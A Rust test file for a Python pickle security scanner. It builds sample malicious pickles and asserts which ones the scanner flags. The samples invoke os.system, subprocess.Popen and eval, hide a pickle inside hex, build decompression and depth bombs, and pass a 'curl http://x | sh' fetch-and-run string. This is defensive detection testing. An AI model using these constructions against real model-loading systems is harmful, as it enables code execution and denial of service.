//! What the machine finds in pickles that are put together here.
#![allow(clippy::unwrap_used, reason = "tests")]

use proptest::prelude::*;

use super::size::DEPTH_MAX;
use crate::{Limits, Part, ReadError, Source, Verdict, scan};

fn text(text: &str) -> Vec<u8> {
    let mut out = vec![b'X'];
    out.extend((text.len() as u32).to_le_bytes());
    out.extend(text.as_bytes());
    out
}

fn bytes(bytes: &[u8]) -> Vec<u8> {
    let mut out = vec![b'B'];
    out.extend((bytes.len() as u32).to_le_bytes());
    out.extend(bytes);
    out
}

fn int(int: i32) -> Vec<u8> {
    let mut out = vec![b'J'];
    out.extend(int.to_le_bytes());
    out
}

fn global(module: &str, name: &str) -> Vec<u8> {
    [text(module), text(name), vec![0x93]].concat()
}

fn call(callee: &[u8], args: &[Vec<u8>]) -> Vec<u8> {
    [callee.to_vec(), vec![b'('], args.concat(), b"tR".to_vec()].concat()
}

fn whole(body: &[u8]) -> Vec<u8> {
    [b"\x80\x04".as_slice(), body, b"."].concat()
}

fn look(pickle: &[u8]) -> Part {
    scan("x.pkl", &pickle.to_vec(), &Limits::default())
}

#[track_caller]
fn check(pickle: &[u8], expected: Verdict, rule: &str) -> String {
    let part = look(pickle);
    let findings: Vec<String> = part.all_findings().map(|f| format!("{} {}", f.check, f.message)).collect();
    assert_eq!(part.verdict(), expected, "{findings:?} {:?}", part.unread);
    assert!(rule.is_empty() || findings.iter().any(|f| f.starts_with(rule)), "{rule} not in {findings:?}");
    findings.join("\n")
}

#[test]
fn a_call_is_shown_as_it_would_happen() {
    let shown = check(&whole(&call(&global("os", "system"), &[text("id")])), Verdict::Found, "S001");
    assert!(shown.contains("`os.system(\"id\")`"), "{shown}");
    let inner = call(&global("base64", "b64decode"), &[text("gAROLg==")]);
    check(&whole(&call(&global("pickle", "loads"), &[inner])), Verdict::Found, "S006");
}

#[test]
fn a_reader_that_is_given_an_address_reaches_the_network() {
    let reads = |what: &str| whole(&call(&global("pandas", "read_csv"), &[text(what)]));
    check(&reads("/etc/passwd"), Verdict::Found, "S002");
    check(&reads("https://vendor.example/x"), Verdict::Found, "S004");
    check(&whole(&call(&global("builtins", "open"), &[text(r"\\host\share\x")])), Verdict::Found, "S004");
}

#[test]
fn every_opcode_that_calls_is_followed() {
    for pickle in [
        b"cos\nsystem\n(S'id'\ntR.".to_vec(),
        b"(S'id'\nios\nsystem\n.".to_vec(),
        b"(cos\nsystem\nVid\no.".to_vec(),
        b"\x80\x02csubprocess\nPopen\nVid\n\x85\x81.".to_vec(),
        b"\x80\x04csubprocess\nPopen\n)}\x92.".to_vec(),
        b"\x80\x02c__builtin__\neval\nVx\n\x85R0N.".to_vec(),
        // The name from the memo; the module last in, first out.
        b"Vsystem\np0\n0Vos\ng0\n\x93Vid\n\x85R.".to_vec(),
        // Registered by the pickle itself.
        [
            b"\x80\x04".to_vec(),
            call(&global("copyreg", "add_extension"), &[text("os"), text("system"), int(5)]),
            b"0\x82\x05Vid\n\x85R.".to_vec(),
        ]
        .concat(),
    ] {
        check(&pickle, Verdict::Found, "");
    }
}

#[test]
fn computed_names_and_callees_are_found() {
    let module = call(&global("operator", "add"), &[text("o"), text("s")]);
    let import = [module, text("system"), vec![0x93]].concat();
    let shown = check(&whole(&call(&import, &[text("id")])), Verdict::Found, "S010");
    assert!(shown.contains("os.system"), "{shown}");
    let getter = call(&global("operator", "attrgetter"), &[text("system")]);
    let os = call(&global("importlib", "import_module"), &[text("os")]);
    check(&whole(&call(&call(&getter, &[os]), &[text("id")])), Verdict::Found, "S001");
    let partial = call(&global("functools", "partial"), &[global("os", "system"), text("id")]);
    check(&whole(&call(&partial, &[])), Verdict::Found, "S009");
    let mapped = call(
        &global("builtins", "map"),
        &[global("builtins", "eval"), [b"](".to_vec(), text("1"), b"e".to_vec()].concat()],
    );
    check(&whole(&call(&global("builtins", "list"), &[mapped])), Verdict::Found, "S001");
}

#[test]
fn what_picklers_write_is_clean() {
    let reconstruct = call(
        &global("numpy._core.multiarray", "_reconstruct"),
        &[global("numpy", "ndarray"), [b"(".to_vec(), int(0), b"t".to_vec()].concat(), bytes(b"b")],
    );
    let enumeration = call(&global("builtins", "getattr"), &[global("__main__", "Colour"), text("RED")]);
    let object = [
        global("some_library.models", "FileResource"),
        b")\x81}(".to_vec(),
        text("run"),
        text("os.system('x')"),
        b"ub".to_vec(),
    ]
    .concat();
    let parts = [
        reconstruct,
        enumeration,
        object,
        call(&global("collections", "OrderedDict"), &[]),
        call(&global("pathlib", "PosixPath"), &[text("/"), text("data")]),
        call(&global("torch", "device"), &[text("cuda:0")]),
        call(&global("mylib._tree", "__pyx_unpickle_Tree"), &[int(3)]),
        call(&global("builtins", "ValueError"), &[text("no /tmp/x")]),
        call(&global("functools", "partial"), &[global("mylib", "preprocess")]),
        global("numpy", "log1p"),
    ];
    for part in &parts {
        check(&whole(part), Verdict::Clean, "");
    }
    let all = [b"](".to_vec(), parts.concat(), b"e".to_vec()].concat();
    check(&[whole(&all), whole(b"N")].concat(), Verdict::Clean, "");
}

#[test]
fn unknown_functions_are_found_and_unknown_classes_by_what_they_are_given() {
    check(&whole(&call(&global("new_library.tools", "frobnicate"), &[text("x")])), Verdict::Found, "S008");
    check(
        &whole(&call(&global("new_library.tools", "Estimator"), &[text("gini"), int(3)])),
        Verdict::Clean,
        "",
    );
    check(&whole(&call(&global("sklearn.new", "Estimator"), &[text("gini")])), Verdict::Clean, "");
    check(
        &whole(&call(&global("new_library.tools", "Bot"), &[text("a"), text("b")])),
        Verdict::Found,
        "S008",
    );
    check(
        &whole(&call(&global("new_library.tools", "Estimator"), &[text("curl http://x | sh")])),
        Verdict::Found,
        "S008",
    );
    check(&whole(&call(&global("new_library.tools", "HttpSession"), &[])), Verdict::Found, "S004");
}

#[test]
fn changes_to_what_was_imported_are_found() {
    let set = [global("sys", "modules"), text("json"), text("x"), b"s".to_vec()].concat();
    check(&whole(&set), Verdict::Found, "S007");
    let build =
        [global("torch", "Tensor"), b"}(".to_vec(), text("x"), global("m", "f"), b"ub".to_vec()].concat();
    check(&whole(&build), Verdict::Found, "S007");
    let plant =
        [global("a", "B"), b")\x81}(".to_vec(), text("__setstate__"), global("m", "f"), b"ub".to_vec()]
            .concat();
    check(&whole(&plant), Verdict::Found, "S007");
}

#[test]
fn effects_before_the_break_count_and_a_break_alone_is_inconclusive() {
    let effect = [b"\x80\x04".to_vec(), call(&global("os", "system"), &[text("id")])].concat();
    for rest in [&b""[..], b"0000", b"h\xfe.", b"\xff", b"Iabc\n.", b"\x80\x09."] {
        check(&[&effect, rest].concat(), Verdict::Found, "S001");
    }
    for broken in
        [&b"\x80\x04K\x01K\x02\x86h\x09."[..], b"\x80\x04]K\x01K\x02K\x03t.", b"\x80\x04X\x09\0\0\0abc"]
    {
        check(broken, Verdict::Inconclusive, "");
    }
}

#[test]
fn hidden_pickles_are_found() {
    let evil = whole(&call(&global("os", "system"), &[text("id")]));
    let benign = whole(b"]");
    check(&[benign.clone(), evil.clone()].concat(), Verdict::Found, "S001");
    check(&[benign.clone(), vec![0; 50], evil.clone()].concat(), Verdict::Found, "S012");
    check(&[benign.clone(), b"some text".to_vec(), evil.clone()].concat(), Verdict::Found, "S012");
    check(&[benign.clone(), vec![0; 50]].concat(), Verdict::Clean, "");
    check(&whole(&bytes(&evil)), Verdict::Found, "S012");
    let hexadecimal: String = evil.iter().map(|b| format!("{b:02x}")).collect();
    check(&whole(&text(&hexadecimal)), Verdict::Found, "S012");
    check(&whole(&bytes(&[b"\0\0".as_slice(), b"cos\nsystem\nVid\n\x85R"].concat())), Verdict::Found, "S012");
    check(&whole(&bytes(&benign)), Verdict::Clean, "");
}

#[test]
fn bombs_are_found_at_their_bounds() {
    let nested = |n: u32| [vec![b']'; n as usize], vec![b'a'; n as usize - 1]].concat();
    check(&whole(&nested(DEPTH_MAX)), Verdict::Clean, "");
    check(&whole(&nested(DEPTH_MAX + 1)), Verdict::Found, "S013");
    let mut laughs = text("lol");
    for _ in 0..10 {
        laughs = [b"(".to_vec(), laughs, b"222222222l".to_vec()].concat();
    }
    check(&whole(&laughs), Verdict::Found, "S013");
    // The same, outer lists first and filled afterwards.
    let mut late: Vec<u8> = (0..12).flat_map(|_| [b']', 0x94]).collect();
    for inner in (1..12u8).rev() {
        late.extend([b'h', inner - 1, b'(']);
        late.extend((0..12).flat_map(|_| [b'h', inner]));
        late.extend(b"e0");
    }
    check(&whole(&late), Verdict::Found, "S013");
    let times = |n: i32| whole(&call(&global("operator", "mul"), &[text("A"), int(n)]));
    check(&times(1 << 28), Verdict::Clean, "");
    check(&times((1 << 28) + 1), Verdict::Found, "S013");
    check(b"\x80\x04\x8b\xff\xff\xff\xff.", Verdict::Found, "S013");
    check(b"\x80\x05\x96\0\0\0\0\0\x01\0\0x", Verdict::Found, "S013");
    check(b"\x80\x04Nr\xff\xff\xff\xff.", Verdict::Found, "S013");
}

#[test]
fn enumerations_empty_containers_and_bound_methods_are_ordinary() {
    let (class, instance) = (global("pkg.models", "Scaler"), b")\x81}(".to_vec());
    let instance = [class, instance, text("mean"), int(1), b"ub".to_vec()].concat();
    let bound = |name: &str| call(&global("builtins", "getattr"), &[instance.clone(), text(name)]);
    let meters =
        [call(&global("pkg.models", "Meters"), &[]), b"(".to_vec(), text("a"), int(1), b"u".to_vec()]
            .concat();
    for plain in [
        call(&global("pkg.models", "Site"), &[text("chest")]),
        call(&global("__main__", "Colour"), &[int(1)]),
        call(&global("pkg.models", "Age"), &[text("<18 (child)")]),
        call(&global("operator", "getitem"), &[global("typing", "Literal"), text("a")]),
        call(&global("pkg.models", "RequestStatus"), &[text("sent")]),
        meters,
        bound("__call__"),
        bound("transform"),
        call(&global("operator", "getitem"), &[global("typing", "List"), global("builtins", "int")]),
        call(&global("operator", "or_"), &[global("builtins", "int"), global("builtins", "str")]),
    ] {
        check(&whole(&plain), Verdict::Clean, "");
    }
    for bad in [
        call(&global("pkg.models", "Site"), &[text("/etc/passwd")]),
        call(&global("pkg.models", "Site"), &[text("os.system")]),
        call(&global("pkg.models", "Site"), &[text("whoami")]),
        call(&global("pkg.models", "Site"), &[text("run(x)")]),
        call(&global("pkg.models", "CreateObject"), &[text("WScript.Shell")]),
        call(&global("pkg.models", "ShellRunner"), &[]),
        bound("__globals__"),
        bound("__class__"),
        bound("__init__"),
        call(&bound("transform"), &[text("x")]),
        call(&global("builtins", "map"), &[bound("transform"), b"]".to_vec()]),
        // `OBJ` without arguments calls what is no class.
        [b"(".to_vec(), global("pkg.tools", "embed"), b"o".to_vec()].concat(),
    ] {
        check(&whole(&bad), Verdict::Found, "");
    }
}

#[test]
fn packages_do_not_vouch_for_all_of_their_names() {
    for (module, name, args) in [
        ("patsy.highlevel", "dmatrix", vec![text("x + y")]),
        ("attr._make", "_compile_and_eval", vec![text("1")]),
        ("torch._C", "PyTorchFileWriter", vec![text("/tmp/x")]),
        ("torch._C", "import_ir_module", vec![b"N".to_vec(), text("x")]),
        ("torch._utils", "_import_dotted_name", vec![text("os.system")]),
        ("dateutil.zoneinfo.rebuild", "rebuild", vec![text("/tmp/x.tgz")]),
        ("torch.distributed.x", "SubprocessHandler", vec![text("train")]),
        ("tensorflow.train", "Server", vec![text("127.0.0.1:9")]),
        ("pystan.model", "StanModel", vec![text("model { }")]),
        ("sentence_transformers", "SentenceTransformer", vec![text("owner/name")]),
    ] {
        check(&whole(&call(&global(module, name), &args)), Verdict::Found, "");
    }
    for (module, name, args) in [
        ("torch._utils", "_rebuild_tensor_v2", vec![int(1)]),
        ("dateutil.tz.tz", "tzutc", vec![]),
        (
            "dateutil.tz._tzfile",
            "_unpickle",
            vec![global("dateutil.tz", "tzfile"), text("/usr/share/zoneinfo/UTC")],
        ),
        ("patsy.design_info", "DesignInfo", vec![text("x")]),
        ("sklearn.new", "Estimator", vec![text("Hello {}")]),
    ] {
        check(&whole(&call(&global(module, name), &args)), Verdict::Clean, "");
    }
}

#[test]
fn amounts_are_folded_through_calls() {
    let (pow, mul) = (global("operator", "pow"), global("operator", "mul"));
    let count = || call(&global("itertools", "count"), &[]);
    let fraction = call(&global("fractions", "Fraction"), &[text("7/3")]);
    let array = call(&global("array", "array"), &[text("d"), b"]".to_vec()]);
    let big = int(1 << 30);
    for bad in [
        call(&pow, &[int(9), call(&pow, &[int(9), int(9)])]),
        call(&pow, &[fraction.clone(), int(100_000_000)]),
        call(&global("decimal", "Decimal.__pow__"), &[fraction.clone(), int(100_000_000)]),
        call(&mul, &[array.clone(), big.clone()]),
        call(&global("math", "comb"), &[int(100_000_000), int(50_000_000)]),
        call(&global("builtins", "int"), &[call(&global("decimal", "Decimal"), &[text("1E+99999999")])]),
        call(&global("builtins", "dict"), &[call(&global("builtins", "zip"), &[count(), count()])]),
        call(&global("builtins", "sorted"), &[call(&global("builtins", "enumerate"), &[count()])]),
        call(&global("collections", "deque"), &[call(&global("itertools", "repeat"), &[int(0), big])]),
        call(&global("re", "match"), &[text("(a+)+$"), text("aaaa")]),
    ] {
        check(&whole(&bad), Verdict::Found, "S013");
    }
    for plain in [
        call(&pow, &[int(2), int(64)]),
        call(&pow, &[fraction, int(3)]),
        call(&mul, &[array, int(3)]),
        call(&global("math", "comb"), &[int(50), int(6)]),
        call(&global("builtins", "int"), &[call(&global("decimal", "Decimal"), &[text("12.5")])]),
        call(&global("builtins", "dict"), &[call(&global("builtins", "zip"), &[count(), b"]".to_vec()])]),
        call(&global("builtins", "list"), &[call(&global("itertools", "islice"), &[count(), int(5)])]),
        call(&global("re", "_compile"), &[text("(a+)+$"), int(32)]),
        call(&global("re", "match"), &[text("a+$"), text("aaaa")]),
    ] {
        check(&whole(&plain), Verdict::Clean, "");
    }
}

/// A source that is not in memory.
struct Slow(Vec<u8>);

impl Source for Slow {
    fn len(&self) -> u64 {
        self.0.len() as u64
    }

    fn read_at(&self, at: u64, into: &mut [u8]) -> Result<usize, ReadError> {
        let n = into.len().min(1000);
        self.0.as_slice().read_at(at, &mut into[..n])
    }
}

#[test]
fn large_constants_and_long_lists_read_the_same_from_anywhere() {
    let numbers: Vec<u8> = (0..200_000).flat_map(|_| b"G\x3f\xf0\0\0\0\0\0\0".to_vec()).collect();
    let pickle = whole(
        &[
            b"](".to_vec(),
            numbers,
            bytes(&vec![7; 600_000]),
            call(&global("os", "system"), &[text("id")]),
            b"e".to_vec(),
        ]
        .concat(),
    );
    let (memory, slow) = (look(&pickle), scan("x.pkl", &Slow(pickle), &Limits::default()));
    assert_eq!(memory, slow);
    assert_eq!(memory.verdict(), Verdict::Found);
}

/// Opcodes with arguments that fit, in any order.
fn opcodes() -> impl Strategy<Value = Vec<u8>> {
    let names = prop::sample::select(vec!["os", "system", "builtins", "getattr", "x.Y", "numpy", "append"]);
    let op = prop_oneof![
        prop::sample::select(
            b"()]}Nt012.Rblesuado\x81\x85\x86\x87\x88\x8f\x90\x91\x92\x93\x94\x97\x98Q".to_vec()
        )
        .prop_map(|b| vec![b]),
        (0..5u8).prop_map(|i| vec![b'h', i]),
        (0..5u8).prop_map(|i| vec![b'q', i]),
        names.prop_map(text),
        any::<i32>().prop_map(int),
        any::<Vec<u8>>().prop_map(|b| bytes(&b)),
    ];
    prop::collection::vec(op, 0..60).prop_map(|ops| ops.concat())
}

proptest! {
    #[test]
    fn any_bytes_are_survived(bytes: Vec<u8>) {
        look(&bytes);
        look(&[b"\x80\x04".to_vec(), bytes].concat());
    }

    #[test]
    fn any_opcodes_are_survived_and_read_the_same_from_anywhere(ops in opcodes()) {
        let pickle = [b"\x80\x04".to_vec(), ops].concat();
        prop_assert_eq!(look(&pickle), scan("x.pkl", &Slow(pickle), &Limits::default()));
    }
}
